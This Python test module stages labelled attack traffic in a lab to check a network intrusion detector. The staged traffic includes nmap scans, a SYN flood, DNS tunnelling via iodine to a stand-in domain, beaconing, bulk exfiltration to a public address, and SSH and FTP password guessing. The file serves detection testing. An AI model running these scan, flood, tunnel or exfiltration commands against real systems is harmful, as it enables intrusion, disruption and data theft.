"""Scans, floods, guessed passwords, and what leaves in secret."""

import subprocess
import time

import stage as stages
from cases.labels import CLIENT, PUBLIC, SERVER, case, expect, label
from cases.scenes import pages


def scan(stage, *arguments, more=()):
    stage.pair(more=more)
    stage.play("b", "accepting", 80)
    stage.until_listening("b", 80)
    stage.capture()
    stage.run("a", "nmap", "-n", "-Pn", "--max-retries", "0", *arguments, timeout=60)
    stage.stop()


@case()
def scan_vertical(stage, draw):
    """nmap asks for a hundred ports of one host."""
    first = draw.randrange(1, 60)
    scan(stage, "-sS", "-p", f"{first}-{first + 100}", SERVER)
    return label(expect("vertical_scan", CLIENT, severity="warning"), may=["connection_failures", "rst_storm"])


@case(committed=False)
def scan_vertical_connect(stage, draw):
    """nmap asks for ports with whole connections, behind a filter that drops most."""
    stage.pair()
    stage.run("b", "iptables", "-A", "INPUT", "-p", "tcp", "--dport", "200:65535", "-j", "DROP")
    stage.capture()
    stage.run("a", "nmap", "-n", "-Pn", "-sT", "--max-retries", "0", "-p", "180-260", SERVER, timeout=60)
    stage.stop()
    return label(expect("vertical_scan", CLIENT, severity="warning"), may=["connection_failures", "rst_storm"])


@case()
def scan_horizontal(stage, draw):
    """nmap asks forty hosts for one port."""
    port = draw.choice([22, 445, 3389, 5985])
    scan(stage, "-sS", "-p", port, "10.9.1.1-40", more=[f"10.9.1.{n}/32" for n in range(1, 41)])
    return label(expect("horizontal_scan", CLIENT, severity="warning", ports=[port]), may=["connection_failures", "rst_storm"])


def stealth(stage, kind):
    scan(stage, kind, "-p", "1-40", SERVER)
    return label(expect("stealth_scan", CLIENT, severity="warning"),
                 may=["vertical_scan", "connection_failures", "rst_storm"])


@case()
def scan_null(stage, draw):
    """nmap -sN: segments without a flag."""
    return stealth(stage, "-sN")


@case()
def scan_fin(stage, draw):
    """nmap -sF: FIN and nothing before."""
    return stealth(stage, "-sF")


@case()
def scan_xmas(stage, draw):
    """nmap -sX: FIN, PSH and URG."""
    return stealth(stage, "-sX")


@case()
def syn_flood(stage, draw):
    """SYNs from forged addresses, hundreds in a few seconds; a real client works beside them."""
    stage.pair()
    stage.play("b", "accepting", 80)
    stage.play("b", "echo", 7000)
    stage.until_listening("b", 80)
    stage.until_listening("b", 7000)
    stage.capture()
    asking = stage.play("a", "ask", SERVER, 7000, 20, 0.1)
    stage.act("a", "spray", SERVER, 80, draw.randrange(400, 600), 0.003, 2, draw.randrange(1000))
    asking.wait(20)
    stage.stop()
    return label(expect("syn_flood", SERVER, severity="warning", ports=[80]), may=["connection_failures", "capture_stopped"])


@case()
def dns_tunnel(stage, draw):
    """Data travels in the names that are asked for, and in TXT answers."""
    stage.pair()
    stage.play("b", "tunnel_server", SERVER)
    stage.until_listening("b", 53)
    stage.capture()
    stage.act("a", "tunnel", SERVER, "t.exfil.test", draw.randrange(150, 220), 0.01, draw.randrange(1000))
    stage.stop()
    return label(expect("dns_tunnel", severity="warning"))


@case(committed=False)
def dns_tunnel_iodine(stage, draw):
    """iodine: pings and a file through a tunnel of DNS."""
    stage.pair()
    stage.start("b", "iodined", "-f", "-c", "-P", "secret", "-l", SERVER, "10.66.0.1/24", "t.exfil.test")
    stage.until_listening("b", 53)
    stage.capture(only="port 53")
    stage.start("a", "iodine", "-f", "-r", "-P", "secret", SERVER, "t.exfil.test")
    for _ in range(60):
        time.sleep(0.25)
        if stage.run("a", "ping", "-n", "-c", "1", "-W", "1", "10.66.0.1", check=False).returncode == 0:
            break
    else:
        raise stages.Trouble("iodine has no tunnel")
    stage.play("b", "sink", 5201)
    stage.until_listening("b", 5201)
    stage.act("a", "send", "10.66.0.1", 5201, draw.randrange(40_000, 60_000), 0, 1000, draw.randrange(1000), check=False)
    stage.stop()
    return label(expect("dns_tunnel", severity="warning"), may=["dns_failures"])


@case()
def beacon(stage, draw):
    """An implant asks its master on the Internet for orders every minute, give or take."""
    stage.pair(more=[f"{PUBLIC}/32"])
    pages(stage, "b", 80)
    stage.capture()
    stage.act("a", "fetch", PUBLIC, 80, "/1k", draw.randrange(26, 40), 0.3, draw.choice([0.03, 0.08, 0.12]), "", draw.randrange(1000), 20)
    path = stage.stop()
    stages.stretch(path, 200, 0.1)
    return label(expect("beaconing", CLIENT, PUBLIC, severity="note"), may=["capture_clock"])


@case(committed=False, hard=True)
def beacon_inside(stage, draw):
    """An implant asks another one inside, which passes it on: the packets are those of a monitor."""
    stage.pair()
    pages(stage, "b", 8080)
    stage.capture()
    stage.act("a", "fetch", SERVER, 8080, "/1k", draw.randrange(20, 30), 0.3, 0.08, "", draw.randrange(1000), 20)
    path = stage.stop()
    stages.stretch(path, 100, 0.1)
    return label(expect("beaconing", CLIENT, SERVER))


@case(committed=False)
def exfiltration(stage, draw):
    """Much more goes out to one address on the Internet than comes in."""
    stage.pair(offload=True, more=[f"{PUBLIC}/32"])
    stage.play("b", "sink", 443)
    stage.until_listening("b", 443)
    stage.capture(snap=100)
    stage.act("a", "send", PUBLIC, 443, draw.randrange(120, 180) * 1_000_000, 0, 1_000_000)
    stage.stop()
    return label(expect("exfiltration", CLIENT, PUBLIC, severity="note"), may=["capture_offload", "capture_snapped"])


@case(committed=False)
def brute_force_ssh(stage, draw):
    """A real SSH server is asked for a login again and again."""
    stage.pair()
    key = stage.folder / "key"
    subprocess.run(["dropbearkey", "-t", "ed25519", "-f", key], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    stage.start("b", "dropbear", "-F", "-E", "-s", "-r", key, "-p", "22")
    stage.until_listening("b", 22)
    stage.capture(snap=300)
    for _ in range(draw.randrange(36, 44)):
        stage.run("a", "ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                  "-o", "ConnectTimeout=5", f"admin@{SERVER}", check=False)
    stage.stop()
    return label(expect("brute_force", CLIENT, SERVER, severity="warning", ports=[22]), may=["capture_snapped"])


@case()
def brute_force_ftp(stage, draw):
    """A list of passwords is tried at an FTP server."""
    stage.pair()
    stage.play("b", "ftp", 21)
    stage.until_listening("b", 21)
    stage.capture()
    stage.act("a", "log_in", SERVER, draw.randrange(26, 34), 0.02)
    stage.stop()
    return label(expect("brute_force", CLIENT, SERVER, severity="warning", ports=[21]),
                 expect("cleartext_credentials", SERVER, ports=[21]))
